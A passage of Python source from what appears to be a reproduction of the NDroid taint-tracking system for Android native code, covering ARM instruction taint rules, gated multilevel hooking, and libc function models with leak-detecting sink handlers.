            if ir.op in isa.UNARY_OPS:
                return self._compile_clear(ir.rd)  # mov Rd, #imm
            return self._compile_reg_union([ir.rn], ir.rd, ir.mnemonic, pc)
        # Source order matches the single-step ledger: rm, shift_reg, rn.
        sources = [operand2.rm]
        if operand2.shift_reg is not None:
            sources.append(operand2.shift_reg)
        if ir.op not in isa.UNARY_OPS:
            sources.append(ir.rn)
        return self._compile_reg_union(sources, ir.rd, ir.mnemonic, pc)

    def _compile_reg_union(self, sources: List[int], rd: int,
                           mnemonic: str, pc: int) -> TaintOp:
        """``t(Rd) := t(Ra) | t(Rb) | ...`` — the register-only Table V
        rules (data processing, multiply, clz) share this shape."""
        tracer = self
        taint = self.taint
        shadow = taint.shadow_registers  # mutated in place, never rebound
        set_register = taint.set_register
        dst = Loc.reg(rd)
        mechanism = "native:" + mnemonic
        location = f"0x{pc:08x}"
        if len(sources) == 1:
            a = sources[0]
            loc_a = Loc.reg(a)

            def op() -> None:
                label = shadow[a] | taint.conservative_label
                if label and tracer.ledger is not None:
                    tracer._record_at(location, mechanism,
                                      ((loc_a, label),), dst)
                set_register(rd, label)
            return op
        if len(sources) == 2:
            a, b = sources
            loc_a, loc_b = Loc.reg(a), Loc.reg(b)

            def op() -> None:
                cons = tracer.taint.conservative_label
                tag_a = shadow[a] | cons
                tag_b = shadow[b] | cons
                label = tag_a | tag_b
                if label and tracer.ledger is not None:
                    tracer._record_at(location, mechanism,
                                      ((loc_a, tag_a), (loc_b, tag_b)), dst)
                set_register(rd, label)
            return op
        pairs = [(index, Loc.reg(index)) for index in sources]

        def op() -> None:
            cons = taint.conservative_label
            tagged = [(loc, shadow[index] | cons) for index, loc in pairs]
            label = cons
            for __, tag in tagged:
                label |= tag
            if label and tracer.ledger is not None:
                tracer._record_at(location, mechanism,
                                  tuple((loc, tag) for loc, tag in tagged),
                                  dst)
            set_register(rd, label)
        return op

    def _compile_multiply_long(self, ir: isa.MultiplyLong,
                               pc: int) -> TaintOp:
        tracer = self
        taint = self.taint
        shadow = taint.shadow_registers
        set_register = taint.set_register
        rm, rs = ir.rm, ir.rs
        rd_lo, rd_hi = ir.rd_lo, ir.rd_hi
        accumulate = ir.accumulate
        loc_rm, loc_rs = Loc.reg(rm), Loc.reg(rs)
        loc_lo, loc_hi = Loc.reg(rd_lo), Loc.reg(rd_hi)
        mechanism = "native:" + ir.mnemonic
        location = f"0x{pc:08x}"

        def op() -> None:
            cons = taint.conservative_label
            tag_rm = shadow[rm] | cons
            tag_rs = shadow[rs] | cons
            label = tag_rm | tag_rs
            if accumulate:
                tag_lo = shadow[rd_lo] | cons
                tag_hi = shadow[rd_hi] | cons
                label |= tag_lo | tag_hi
            if label and tracer.ledger is not None:
                sources = [(loc_rm, tag_rm), (loc_rs, tag_rs)]
                if accumulate:
                    sources.append((loc_lo, tag_lo))
                    sources.append((loc_hi, tag_hi))
                tracer._record_at(location, mechanism, sources, loc_lo)
                tracer._record_at(location, mechanism, sources, loc_hi)
            set_register(rd_lo, label)
            set_register(rd_hi, label)
        return op

    def _compile_load_store(self, ir: isa.LoadStore, pc: int,
                            emu: Emulator) -> Optional[TaintOp]:
        tracer = self
        taint = self.taint
        cpu = emu.cpu
        regs = cpu.regs
        shadow = taint.shadow_registers
        get_memory = taint.get_memory
        rn, rd, offset_rm, size = ir.rn, ir.rd, ir.offset_rm, ir.size
        mechanism = "native:" + ir.mnemonic
        location = f"0x{pc:08x}"
        # transfer_address reads the pipelined PC through cpu.read_reg:
        # inside a block body regs[PC] is stale, so restore it first when
        # the addressing actually involves PC (literal-pool loads).
        needs_pc = rn == PC or offset_rm == PC
        if ir.load:
            if rd == PC:
                return None
            set_register = taint.set_register
            dst = Loc.reg(rd)
            loc_rn = Loc.reg(rn)
            loc_off = Loc.reg(offset_rm) if offset_rm is not None else None

            def op() -> None:
                if needs_pc:
                    regs[PC] = pc
                address, __ = transfer_address(cpu, ir)
                mem_tag = get_memory(address, size)
                label = mem_tag
                if rn != PC:
                    rn_tag = shadow[rn] | taint.conservative_label
                    label |= rn_tag
                if offset_rm is not None:
                    off_tag = shadow[offset_rm] | taint.conservative_label
                    label |= off_tag
                if label and tracer.ledger is not None:
                    sources = [(Loc.mem(address, size), mem_tag)]
                    if rn != PC:
                        sources.append((loc_rn, rn_tag))
                    if offset_rm is not None:
                        sources.append((loc_off, off_tag))
                    tracer._record_at(location, mechanism, sources, dst)
                set_register(rd, label)
            return op
        set_memory = taint.set_memory
        loc_rd = Loc.reg(rd)

        def op() -> None:
            if needs_pc:
                regs[PC] = pc
            address, __ = transfer_address(cpu, ir)
            label = shadow[rd] | taint.conservative_label
            if label and tracer.ledger is not None:
                tracer._record_at(location, mechanism,
                                  ((loc_rd, label),),
                                  Loc.mem(address, size))
            set_memory(address, size, label)
        return op

    def _compile_load_store_multiple(self, ir: isa.LoadStoreMultiple,
                                     pc: int, emu: Emulator) -> TaintOp:
        tracer = self
        taint = self.taint
        cpu = emu.cpu
        regs = cpu.regs
        shadow = taint.shadow_registers
        get_memory = taint.get_memory
        rn = ir.rn
        mechanism = "native:" + ir.mnemonic
        location = f"0x{pc:08x}"
        loc_rn = Loc.reg(rn)
        needs_pc = rn == PC
        if ir.load:
            set_register = taint.set_register
            # (register, Loc) pairs pre-built; PC loads stay untracked.
            pairs = [(register, Loc.reg(register))
                     for register in ir.reglist]

            def op() -> None:
                if needs_pc:
                    regs[PC] = pc
                addresses = multiple_addresses(cpu, ir)
                base_label = shadow[rn] | taint.conservative_label
                for (register, loc_rd), address in zip(pairs, addresses):
                    if register == PC:
                        continue
                    mem_tag = get_memory(address, 4)
                    label = mem_tag | base_label
                    if label and tracer.ledger is not None:
                        tracer._record_at(
                            location, mechanism,
                            ((Loc.mem(address, 4), mem_tag),
                             (loc_rn, base_label)),
                            loc_rd)
                    set_register(register, label)
            return op
        set_memory = taint.set_memory
        pairs = [(register, Loc.reg(register)) for register in ir.reglist]

        def op() -> None:
            if needs_pc:
                regs[PC] = pc
            addresses = multiple_addresses(cpu, ir)
            for (register, loc_rd), address in zip(pairs, addresses):
                label = shadow[register] | taint.conservative_label
                if label and tracer.ledger is not None:
                    tracer._record_at(location, mechanism,
                                      ((loc_rd, label),),
                                      Loc.mem(address, 4))
                set_memory(address, 4, label)
        return op

    # -- handler selection ---------------------------------------------------------

    def _select_handler(self, ir: isa.Instruction) -> Handler:
        if isinstance(ir, isa.DataProcessing):
            return self._handle_data_processing
        if isinstance(ir, isa.Multiply):
            return self._handle_multiply
        if isinstance(ir, isa.MultiplyLong):
            return self._handle_multiply_long
        if isinstance(ir, isa.MoveWide):
            return self._handle_move_wide
        if isinstance(ir, isa.CountLeadingZeros):
            return self._handle_clz
        if isinstance(ir, isa.LoadStore):
            return self._handle_load_store
        if isinstance(ir, isa.LoadStoreMultiple):
            return self._handle_load_store_multiple
        if isinstance(ir, (isa.Branch, isa.BranchExchange)):
            return self._handle_branch
        return self._handle_nop

    # -- handlers (Table V) -----------------------------------------------------------

    def _handle_nop(self, ir: isa.Instruction, emu: Emulator) -> None:
        return None

    def _handle_data_processing(self, ir: isa.DataProcessing,
                                emu: Emulator) -> None:
        taint = self.taint
        if ir.op in isa.COMPARE_OPS:
            return  # flags only; control-flow taint is out of scope (§VII)
        operand2 = ir.operand2
        label = TAINT_CLEAR
        if operand2.is_immediate:
            # "mov Rd, #imm -> clear"; "binary-op Rd, Rm, #imm -> t(Rm)".
            if ir.op not in isa.UNARY_OPS:
                label = taint.get_register(ir.rn)
        else:
            label = taint.get_register(operand2.rm)
            if operand2.shift_reg is not None:
                label |= taint.get_register(operand2.shift_reg)
            if ir.op not in isa.UNARY_OPS:
                label |= taint.get_register(ir.rn)
        if ir.rd != PC:
            if label and self.ledger is not None:
                sources = []
                if not operand2.is_immediate:
                    sources.append((Loc.reg(operand2.rm),
                                    taint.get_register(operand2.rm)))
                    if operand2.shift_reg is not None:
                        sources.append(
                            (Loc.reg(operand2.shift_reg),
                             taint.get_register(operand2.shift_reg)))
                if ir.op not in isa.UNARY_OPS:
                    sources.append((Loc.reg(ir.rn),
                                    taint.get_register(ir.rn)))
                self._record(emu, ir.mnemonic, sources, Loc.reg(ir.rd))
            taint.set_register(ir.rd, label)

    def _handle_multiply(self, ir: isa.Multiply, emu: Emulator) -> None:
        label = self.taint.get_register(ir.rm) | self.taint.get_register(ir.rs)
        if ir.accumulate:
            label |= self.taint.get_register(ir.rn)
        if label and self.ledger is not None:
            sources = [(Loc.reg(ir.rm), self.taint.get_register(ir.rm)),
                       (Loc.reg(ir.rs), self.taint.get_register(ir.rs))]
            if ir.accumulate:
                sources.append((Loc.reg(ir.rn),
                                self.taint.get_register(ir.rn)))
            self._record(emu, ir.mnemonic, sources, Loc.reg(ir.rd))
        self.taint.set_register(ir.rd, label)

    def _handle_multiply_long(self, ir: isa.MultiplyLong,
                              emu: Emulator) -> None:
        label = self.taint.get_register(ir.rm) | self.taint.get_register(ir.rs)
        if ir.accumulate:
            label |= self.taint.get_register(ir.rd_lo) | \
                self.taint.get_register(ir.rd_hi)
        if label and self.ledger is not None:
            sources = [(Loc.reg(ir.rm), self.taint.get_register(ir.rm)),
                       (Loc.reg(ir.rs), self.taint.get_register(ir.rs))]
            if ir.accumulate:
                # The accumulator halves feed the result label: without
                # them a reconstructed path skips the accumulator hop.
                sources.append((Loc.reg(ir.rd_lo),
                                self.taint.get_register(ir.rd_lo)))
                sources.append((Loc.reg(ir.rd_hi),
                                self.taint.get_register(ir.rd_hi)))
            self._record(emu, ir.mnemonic, sources, Loc.reg(ir.rd_lo))
            self._record(emu, ir.mnemonic, sources, Loc.reg(ir.rd_hi))
        self.taint.set_register(ir.rd_lo, label)
        self.taint.set_register(ir.rd_hi, label)

    def _handle_move_wide(self, ir: isa.MoveWide, emu: Emulator) -> None:
        if ir.top:
            return  # MOVT merges an immediate; existing taint stands
        self.taint.set_register(ir.rd, TAINT_CLEAR)

    def _handle_clz(self, ir: isa.CountLeadingZeros, emu: Emulator) -> None:
        label = self.taint.get_register(ir.rm)
        if label and self.ledger is not None:
            self._record(emu, ir.mnemonic, [(Loc.reg(ir.rm), label)],
                         Loc.reg(ir.rd))
        self.taint.set_register(ir.rd, label)

    def _handle_load_store(self, ir: isa.LoadStore, emu: Emulator) -> None:
        taint = self.taint
        address, __ = transfer_address(emu.cpu, ir)
        if ir.load:
            if ir.rd == PC:
                return
            label = taint.get_memory(address, ir.size)
            # Table V LDR: union the base register's taint ("if the tainted
            # input is the address of an untainted value...").
            if ir.rn != PC:
                label |= taint.get_register(ir.rn)
            if ir.offset_rm is not None:
                label |= taint.get_register(ir.offset_rm)
            if label and self.ledger is not None:
                sources = [(Loc.mem(address, ir.size),
                            taint.get_memory(address, ir.size))]
                if ir.rn != PC:
                    sources.append((Loc.reg(ir.rn),
                                    taint.get_register(ir.rn)))
                if ir.offset_rm is not None:
                    sources.append((Loc.reg(ir.offset_rm),
                                    taint.get_register(ir.offset_rm)))
                self._record(emu, ir.mnemonic, sources, Loc.reg(ir.rd))
            taint.set_register(ir.rd, label)
        else:
            label = taint.get_register(ir.rd)
            if label and self.ledger is not None:
                self._record(emu, ir.mnemonic, [(Loc.reg(ir.rd), label)],
                             Loc.mem(address, ir.size))
            taint.set_memory(address, ir.size, label)

    def _handle_load_store_multiple(self, ir: isa.LoadStoreMultiple,
                                    emu: Emulator) -> None:
        taint = self.taint
        addresses = multiple_addresses(emu.cpu, ir)
        base_label = taint.get_register(ir.rn)
        if ir.load:
            for register, address in zip(ir.reglist, addresses):
                if register == PC:
                    continue
                label = taint.get_memory(address, 4) | base_label
                if label and self.ledger is not None:
                    self._record(
                        emu, ir.mnemonic,
                        [(Loc.mem(address, 4),
                          taint.get_memory(address, 4)),
                         (Loc.reg(ir.rn), base_label)],
                        Loc.reg(register))
                taint.set_register(register, label)
        else:
            for register, address in zip(ir.reglist, addresses):
                label = taint.get_register(register)
                if label and self.ledger is not None:
                    self._record(emu, ir.mnemonic,
                                 [(Loc.reg(register), label)],
                                 Loc.mem(address, 4))
                taint.set_memory(address, 4, label)

    def _handle_branch(self, ir: isa.Instruction, emu: Emulator) -> None:
        link = getattr(ir, "link", False)
        if link:
            # BL/BLX write a code address into LR: never tainted.
            self.taint.set_register(LR, TAINT_CLEAR)
