"""Multilevel hooking (paper Section V.B, Fig. 5).

``dvmCallMethod*`` and ``dvmInterpret`` are hot paths invoked constantly by
the platform itself; instrumenting every call would be ruinously slow (the
ablation benchmark quantifies this).  NDroid therefore "defines and checks
a sequence of preconditions before hooking certain methods": a chain such
as ``CallVoidMethodA → dvmCallMethodA → dvmInterpret`` is only
instrumented when condition T1 — the chain head was entered by a branch
*from third-party native code* — holds, and each deeper condition Tk
requires T(k-1) plus a branch into the k-th function.  Return branches
(to the address after each call site) unwind the conditions, mirroring
T4-T6.

The manager consumes the emulator's branch-event stream ``(i_from, i_to)``
and answers two queries:

* :meth:`gate` — should a hook on function ``name`` fire for this entry?
* :meth:`native_provenance_active` — is any chain currently live?
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional, Sequence, Set


class HookChain:
    """One condition chain: an ordered list of function names."""

    def __init__(self, names: Sequence[str]) -> None:
        self.names = list(names)
        # depth == k means conditions T1..Tk currently hold.
        self.depth = 0

    def reset(self) -> None:
        self.depth = 0


class MultilevelHookManager:
    """Tracks condition chains over branch events."""

    def __init__(self, symbols: Dict[str, int],
                 is_third_party: Callable[[int], bool],
                 enabled: bool = True) -> None:
        self._symbols = symbols
        self._address_to_name = {address & ~1: name
                                 for name, address in symbols.items()}
        self._is_third_party = is_third_party
        self._chains: List[HookChain] = []
        # Which chain names may fire their gated hooks right now.
        self._armed: Set[str] = set()
        # When disabled (the ablation of Section V.B), every gated hook
        # fires on every entry — "the overhead will be high if we hook
        # these two functions whenever they are called".
        self.enabled = enabled
        self.checks = 0
        self.fires = 0

    # -- configuration ----------------------------------------------------------

    def add_chain(self, names: Sequence[str]) -> HookChain:
        for name in names:
            if name not in self._symbols:
                raise KeyError(f"unknown function {name!r} in hook chain")
        chain = HookChain(names)
        self._chains.append(chain)
        return chain

    # -- the branch listener -------------------------------------------------------

    def on_branch(self, i_from: int, i_to: int, emu=None) -> None:
        target_name = self._address_to_name.get(i_to & ~1)
        self.checks += 1
        from_third_party = self._is_third_party(i_from)
        for chain in self._chains:
            # Condition T1: entry into the chain head from third-party code.
            if target_name == chain.names[0]:
                chain.depth = 1 if from_third_party else 0
                if chain.depth:
                    self._armed.add(chain.names[0])
                continue
            # Deeper conditions: Tk needs T(k-1) true plus entry into the
            # k-th function.
            if chain.depth and chain.depth < len(chain.names) and \
                    target_name == chain.names[chain.depth]:
                chain.depth += 1
                self._armed.add(target_name)
                continue
            # Unwind on a return branch out of the chain head back into
            # third-party code (conditions T5/T6).
            if chain.depth and target_name is None and from_third_party is False:
                source_name = self._address_to_name.get(i_from & ~1)
                if source_name == chain.names[0]:
                    chain.reset()

    # -- queries ----------------------------------------------------------------------

    def gate(self, name: str) -> bool:
        """True if a hook on ``name`` should run for the current entry.

        Consumes the armed flag so one entry fires at most one gated hook.
        """
        if not self.enabled:
            self.fires += 1
            return True
        if name in self._armed:
            self._armed.discard(name)
            self.fires += 1
            return True
        return False

    def native_provenance_active(self) -> bool:
        return any(chain.depth for chain in self._chains)

    def active_depth(self, head: str) -> int:
        for chain in self._chains:
            if chain.names[0] == head:
                return chain.depth
        return 0
