"""NDroid's system-library hook engine (Section V.D, Tables VI & VII).

"Since the system standard functions will be frequently called by native
libraries, instrumenting every instruction in these standard functions
will take a long time and incur heavy overhead.  Instead, we model the
taint propagation operations for popular functions."

Each Table VI function gets a *trust-call handler* that moves taint in the
taint map exactly as the function moves data (the paper's Listing 3 shows
the ``memcpy`` model).  Table VII's starred calls — ``fwrite``, ``write``,
``fputc``, ``fputs``, ``send``, ``sendto`` (and ``fprintf``/``vfprintf``,
which the case-2 PoC treats as a sink) — additionally get *sink handlers*:
"if the data carrying taint reaches calls with *, NDroid regards it as a
possible information leak."
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional

from repro.common.taint import TAINT_CLEAR, TaintLabel, describe_taint
from repro.core.taint_engine import TaintEngine
from repro.framework.leaks import LeakRecord
from repro.libc.stdio_format import FormatError, format_with_taints
from repro.observability.ledger import Loc

# Table VII's starred sinks (plus fprintf, the Fig. 8 sink).
SINK_FUNCTIONS = ("write", "send", "sendto", "fwrite", "fputs", "fputc",
                  "fprintf", "vfprintf")

# The syscall each modelled sink bottoms out in — the provenance ledger
# labels sink edges ``syscall:<name>`` so a reconstructed path always
# names the kernel exit point, stdio or not.
SINK_SYSCALLS = {"write": "write", "send": "send", "sendto": "sendto",
                 "fwrite": "write", "fputs": "write", "fputc": "write",
                 "fprintf": "write", "vfprintf": "write"}


class SysLibHookEngine:
    """Trust-call taint models + sink checks over the modelled libc/libm."""

    def __init__(self, platform, taint_engine: TaintEngine,
                 guard: Optional[Callable] = None) -> None:
        self.platform = platform
        self.emu = platform.emu
        self.libc = platform.libc
        self.libm = platform.libm
        self.kernel = platform.kernel
        self.taint = taint_engine
        # Graceful-degradation wrapper (NDroid.guard_hook); identity when
        # the engine is used standalone in tests.
        self._guard = guard if guard is not None else \
            (lambda name, hook, fallback=None: hook)
        self.modelled_calls = 0
        self.sink_checks = 0
        self._pending_exits: List[Dict] = []
        # Provenance ledger (observability); None when not tracing.
        self.ledger = None

    def _trace_copy(self, name: str, dest: int, src: int,
                    length: int) -> None:
        """One libc-transfer edge, recorded only for tainted source bytes."""
        if self.ledger is None or length <= 0:
            return
        label = self.taint.get_memory(src, length)
        if label:
            self.ledger.record(label, f"libc:{name}", Loc.mem(src, length),
                               Loc.mem(dest, length))

    # -- wiring ----------------------------------------------------------------

    def install(self) -> None:
        entry_models: Dict[str, Callable] = {
            "memcpy": self._model_memcpy,
            "memmove": self._model_memcpy,
            "memset": self._model_memset,
            "strcpy": self._model_strcpy,
            "strncpy": self._model_strncpy,
            "strcat": self._model_strcat,
            "free": self._model_free,
        }
        exit_models: Dict[str, Callable] = {
            "strlen": self._exit_content_to_r0(0),
            "strcmp": self._exit_content_to_r0(0, 1),
            "strncmp": self._exit_content_to_r0(0, 1),
            "strcasecmp": self._exit_content_to_r0(0, 1),
            "strncasecmp": self._exit_content_to_r0(0, 1),
            "memcmp": self._exit_content_to_r0(0, 1),
            "atoi": self._exit_content_to_r0(0),
            "atol": self._exit_content_to_r0(0),
            "strtoul": self._exit_content_to_r0(0),
            "strchr": self._exit_pointer_derivation,
            "strrchr": self._exit_pointer_derivation,
            "strstr": self._exit_pointer_derivation,
            "memchr": self._exit_pointer_derivation,
            "strdup": self._exit_strdup,
            "malloc": self._exit_fresh_allocation,
            "calloc": self._exit_fresh_allocation,
        }
        for name, handler in entry_models.items():
            self._hook_entry(name, handler)
        for name, handler in exit_models.items():
            self._hook_entry(name, self._capture_args)
            self._hook_exit(name, handler)
        self._hook_entry("realloc", self._capture_realloc)
        self._hook_exit("realloc", self._exit_realloc)

        # libm: results derive from the float/double argument registers.
        for name in self.platform.libm.symbols:
            self.emu.add_entry_hook(
                self.platform.libm.symbols[name],
                self._guard(f"libm.{name}.entry", self._capture_args))
            self.emu.add_exit_hook(
                self.platform.libm.symbols[name],
                self._guard(f"libm.{name}.exit", self._exit_libm))

        # Sinks.  Each sink hook carries a conservative fallback: if the
        # precise check ever faults and is quarantined, every later call
        # still reports with the engine-wide live label, so degradation
        # over-reports rather than missing a leak.
        self._hook_entry("write", self._sink_buffer("write", fd_arg=0,
                                                    buf_arg=1, len_arg=2),
                         fallback=self._sink_fallback("write"))
        self._hook_entry("send", self._sink_buffer("send", fd_arg=0,
                                                   buf_arg=1, len_arg=2),
                         fallback=self._sink_fallback("send"))
        self._hook_entry("sendto", self._sink_buffer("sendto", fd_arg=0,
                                                     buf_arg=1, len_arg=2),
                         fallback=self._sink_fallback("sendto"))
        self._hook_entry("fwrite", self._sink_fwrite,
                         fallback=self._sink_fallback("fwrite"))
        self._hook_entry("fputs", self._sink_fputs,
                         fallback=self._sink_fallback("fputs"))
        self._hook_entry("fputc", self._sink_fputc,
                         fallback=self._sink_fallback("fputc"))
        self._hook_entry("fprintf", self._sink_fprintf,
                         fallback=self._sink_fallback("fprintf"))
        self._hook_entry("vfprintf", self._sink_vfprintf,
                         fallback=self._sink_fallback("vfprintf"))

    def _hook_entry(self, name: str, handler: Callable,
                    fallback: Optional[Callable] = None) -> None:
        self.emu.add_entry_hook(
            self.libc.symbols[name],
            self._guard(f"libc.{name}.entry", handler, fallback))

    def _hook_exit(self, name: str, handler: Callable) -> None:
        self.emu.add_exit_hook(
            self.libc.symbols[name],
            self._guard(f"libc.{name}.exit", handler))

    # -- argument capture for exit-time models --------------------------------------

    def _capture_args(self, emu) -> None:
        self._pending_exits.append({"args": list(emu.cpu.regs[:4]),
                                    "taints": [self.taint.get_register(i)
                                               for i in range(4)]})

    def _pop_pending(self) -> Optional[Dict]:
        if not self._pending_exits:
            return None
        return self._pending_exits.pop()

    # -- Table VI trust-call models ---------------------------------------------------

    def _model_memcpy(self, emu) -> None:
        """The paper's Listing 3: per-byte copy of the source's taints."""
        dest, src, length = emu.cpu.regs[0], emu.cpu.regs[1], emu.cpu.regs[2]
        self.modelled_calls += 1
        self._trace_copy("memcpy", dest, src, length)
        self.taint.copy_memory(dest, src, length)

    def _model_memset(self, emu) -> None:
        dest, value_taint = emu.cpu.regs[0], self.taint.get_register(1)
        length = emu.cpu.regs[2]
        self.modelled_calls += 1
        self.taint.set_memory(dest, length, value_taint)

    def _model_strcpy(self, emu) -> None:
        dest, src = emu.cpu.regs[0], emu.cpu.regs[1]
        length = len(emu.memory.read_cstring(src)) + 1
        self.modelled_calls += 1
        self._trace_copy("strcpy", dest, src, length)
        self.taint.copy_memory(dest, src, length)

    def _model_strncpy(self, emu) -> None:
        dest, src, limit = emu.cpu.regs[0], emu.cpu.regs[1], emu.cpu.regs[2]
        length = min(len(emu.memory.read_cstring(src)) + 1, limit)
        self.modelled_calls += 1
        self._trace_copy("strncpy", dest, src, length)
        self.taint.copy_memory(dest, src, length)
        if length < limit:
            self.taint.clear_memory(dest + length, limit - length)

    def _model_strcat(self, emu) -> None:
        dest, src = emu.cpu.regs[0], emu.cpu.regs[1]
        dest_length = len(emu.memory.read_cstring(dest))
        src_length = len(emu.memory.read_cstring(src)) + 1
        self.modelled_calls += 1
        self._trace_copy("strcat", dest + dest_length, src, src_length)
        self.taint.copy_memory(dest + dest_length, src, src_length)

    def _model_free(self, emu) -> None:
        pointer = emu.cpu.regs[0]
        size = self.libc.heap.size_of(pointer)
        self.modelled_calls += 1
        if size:
            self.taint.clear_memory(pointer, size)

    def _capture_realloc(self, emu) -> None:
        pointer, new_size = emu.cpu.regs[0], emu.cpu.regs[1]
        old_size = self.libc.heap.size_of(pointer) or 0
        self._pending_exits.append({
            "old_taints": self.taint.memory_bytes(pointer,
                                                  min(old_size, new_size)),
            "old_pointer": pointer,
            "old_size": old_size,
        })

    def _exit_realloc(self, emu) -> None:
        pending = self._pop_pending()
        if pending is None:
            return
        self.modelled_calls += 1
        new_pointer = emu.cpu.regs[0]
        if pending.get("old_size"):
            self.taint.clear_memory(pending["old_pointer"],
                                    pending["old_size"])
        if new_pointer:
            self.taint.set_memory_bytes(new_pointer, pending["old_taints"])

    def _exit_content_to_r0(self, *string_args: int):
        """Result derives from the content of C-string/buffer arguments."""
        def handler(emu) -> None:
            pending = self._pop_pending()
            if pending is None:
                return
            self.modelled_calls += 1
            label = TAINT_CLEAR
            for index in string_args:
                pointer = pending["args"][index]
                length = len(emu.memory.read_cstring(pointer)) + 1
                label |= self.taint.get_memory(pointer, length)
                label |= pending["taints"][index]
            self.taint.set_register(0, label)
        return handler

    def _exit_pointer_derivation(self, emu) -> None:
        """strchr-style results: a pointer derived from the first arg."""
        pending = self._pop_pending()
        if pending is None:
            return
        self.modelled_calls += 1
        self.taint.set_register(0, pending["taints"][0])

    def _exit_strdup(self, emu) -> None:
        pending = self._pop_pending()
        if pending is None:
            return
        self.modelled_calls += 1
        source = pending["args"][0]
        new_pointer = emu.cpu.regs[0]
        length = len(emu.memory.read_cstring(source)) + 1
        self._trace_copy("strdup", new_pointer, source, length)
        self.taint.copy_memory(new_pointer, source, length)
        self.taint.set_register(0, pending["taints"][0])

    def _exit_fresh_allocation(self, emu) -> None:
        pending = self._pop_pending()
        if pending is None:
            return
        self.modelled_calls += 1
        pointer = emu.cpu.regs[0]
        size = self.libc.heap.size_of(pointer)
        if pointer and size:
            self.taint.clear_memory(pointer, size)
        self.taint.clear_register(0)

    def _exit_libm(self, emu) -> None:
        pending = self._pop_pending()
        if pending is None:
            return
        self.modelled_calls += 1
        label = TAINT_CLEAR
        for taint in pending["taints"]:
            label |= taint
        self.taint.set_register(0, label)
        self.taint.set_register(1, label)

    # -- Table VII sink handlers ------------------------------------------------------

    def _destination_of_fd(self, fd: int) -> str:
        process = self.kernel.current
        descriptor = process.fds.get(fd) if process else None
        if descriptor is None:
            return f"fd:{fd}"
        if descriptor.kind == "socket":
            socket = descriptor.socket
            return (socket.connected_to or socket.bound_to or f"socket:{fd}")
        return descriptor.path or f"fd:{fd}"

    def _report(self, sink: str, label: TaintLabel, destination: str,
                payload: bytes,
                src_locs: Optional[List[Loc]] = None) -> None:
        self.sink_checks += 1
        if label == TAINT_CLEAR:
            return
        self.platform.leaks.report(LeakRecord(
            detector="ndroid", sink=sink, taint=label,
            destination=destination, payload=payload, context="native"))
        self.platform.event_log.emit(
            "ndroid.sink", "leak",
            f"SinkHandler[{sink}] -> {destination} "
            f"taint={describe_taint(label)}",
            sink=sink, taint=label, destination=destination,
            payload=payload[:64])
        if self.ledger is not None:
            syscall = SINK_SYSCALLS.get(sink, sink)
            for src in (src_locs or [Loc.java(label)]):
                tag = label
                if src.kind == "mem":
                    # The precise label actually on those bytes, so the
                    # edge chains back through the native segment.
                    tag = self.taint.get_memory(src.base, src.length) \
                        or label
                self.ledger.record(tag, f"sink:{sink}", src,
                                   Loc.sink(destination),
                                   location=f"syscall:{syscall}")

    def _sink_fallback(self, sink: str):
        """Conservative sink stand-in used once the precise hook is
        quarantined: report the engine-wide live label (over-taint) so a
        degraded run can only over-report leaks, never miss one."""
        def fallback(emu) -> TaintLabel:
            self._report(sink, self.taint.live_label(), "(quarantined)", b"")
            return TAINT_CLEAR
        return fallback

    def _sink_buffer(self, sink: str, fd_arg: int, buf_arg: int,
                     len_arg: int):
        def handler(emu) -> None:
            fd = emu.cpu.regs[fd_arg]
            buffer = emu.cpu.regs[buf_arg]
            length = emu.cpu.regs[len_arg]
            label = self.taint.get_memory(buffer, length)
            destination = self._destination_of_fd(fd)
            if sink == "sendto":
                dest_ptr = emu.memory.read_u32(emu.cpu.sp)
                if dest_ptr:
                    destination = emu.memory.read_cstring(dest_ptr).decode(
                        "utf-8", errors="replace")
            self._report(sink, label, destination,
                         emu.memory.read_bytes(buffer, min(length, 256)),
                         src_locs=[Loc.mem(buffer, length)])
        return handler

    def _sink_fwrite(self, emu) -> None:
        buffer = emu.cpu.regs[0]
        length = emu.cpu.regs[1] * emu.cpu.regs[2]
        fd = self._file_fd(emu.cpu.regs[3])
        label = self.taint.get_memory(buffer, length)
        self._report("fwrite", label, self._destination_of_fd(fd),
                     emu.memory.read_bytes(buffer, min(length, 256)),
                     src_locs=[Loc.mem(buffer, length)])

    def _sink_fputs(self, emu) -> None:
        buffer = emu.cpu.regs[0]
        data = emu.memory.read_cstring(buffer)
        fd = self._file_fd(emu.cpu.regs[1])
        label = self.taint.get_memory(buffer, len(data))
        self._report("fputs", label, self._destination_of_fd(fd), data,
                     src_locs=[Loc.mem(buffer, max(len(data), 1))])

    def _sink_fputc(self, emu) -> None:
        label = self.taint.get_register(0)
        fd = self._file_fd(emu.cpu.regs[1])
        self._report("fputc", label, self._destination_of_fd(fd),
                     bytes([emu.cpu.regs[0] & 0xFF]),
                     src_locs=[Loc.reg(0)])

    def _file_fd(self, file_pointer: int) -> int:
        return self.libc._file_objects.get(file_pointer, -1)

    def _sink_fprintf(self, emu) -> None:
        """Format the arguments exactly as the callee will, for taints."""
        fd = self._file_fd(emu.cpu.regs[0])
        fmt_ptr = emu.cpu.regs[1]
        payload, label, sources = self._format_taint(emu, fmt_ptr, fixed=2)
        self._report("fprintf", label, self._destination_of_fd(fd), payload,
                     src_locs=sources or None)

    def _sink_vfprintf(self, emu) -> None:
        fd = self._file_fd(emu.cpu.regs[0])
        fmt_ptr, va_list = emu.cpu.regs[1], emu.cpu.regs[2]
        memory = emu.memory
        string_taints, sources = self._capture_string_sources()
        try:
            data, taints = format_with_taints(
                memory, memory.read_cstring(fmt_ptr),
                read_vararg=lambda i: memory.read_u32(va_list + 4 * i),
                vararg_taint=lambda i: self.taint.get_memory(va_list + 4 * i,
                                                             4),
                string_taints=string_taints)
        except FormatError:
            return
        label = TAINT_CLEAR
        for taint in taints:
            label |= taint
        self._report("vfprintf", label, self._destination_of_fd(fd), data,
                     src_locs=sources or None)

    def _capture_string_sources(self):
        """Wrap the %s taint callback to note each tainted source range,
        so format-sink edges chain to the buffers the string came from."""
        sources: List[Loc] = []
        base = self.taint.memory_bytes

        def string_taints(address: int, length: int):
            taints = base(address, length)
            if any(taints):
                sources.append(Loc.mem(address, max(length, 1)))
            return taints

        return string_taints, sources

    def _format_taint(self, emu, fmt_ptr: int, fixed: int):
        memory = emu.memory
        sp = emu.cpu.sp

        def read_vararg(index: int) -> int:
            arg_index = fixed + index
            if arg_index < 4:
                return emu.cpu.regs[arg_index]
            return memory.read_u32(sp + 4 * (arg_index - 4))

        def vararg_taint(index: int) -> TaintLabel:
            arg_index = fixed + index
            if arg_index < 4:
